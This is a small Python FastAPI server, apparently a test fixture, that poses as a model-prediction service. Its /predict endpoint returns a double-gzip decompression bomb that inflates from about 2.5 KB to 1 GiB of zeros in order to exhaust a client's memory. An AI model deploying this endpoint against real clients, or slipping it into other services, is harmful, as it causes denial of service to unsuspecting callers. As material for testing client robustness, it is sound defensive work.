"""Answers /predict with two gzip layers that inflate from about 2.5 KB to 1 GiB."""

import gzip
import io
import json
import os
from pathlib import Path

from fastapi import FastAPI, Response

MODEL = json.loads((Path(os.environ["MODEL_DIR"]) / "model.json").read_text())
app = FastAPI()


def _bomb() -> bytes:
    inner = io.BytesIO()
    with gzip.GzipFile(fileobj=inner, mode="wb", compresslevel=9) as layer:
        block = b"0" * (1 << 20)
        for _ in range(1024):  # 1 GiB of zeros
            layer.write(block)
    return gzip.compress(inner.getvalue(), compresslevel=9)


BOMB = _bomb()


@app.get("/health")
def health() -> dict:
    return {"status": "ok"}


@app.post("/predict")
def predict() -> Response:
    headers = {"content-encoding": "gzip, gzip", "content-type": "application/json"}
    return Response(BOMB, headers=headers)
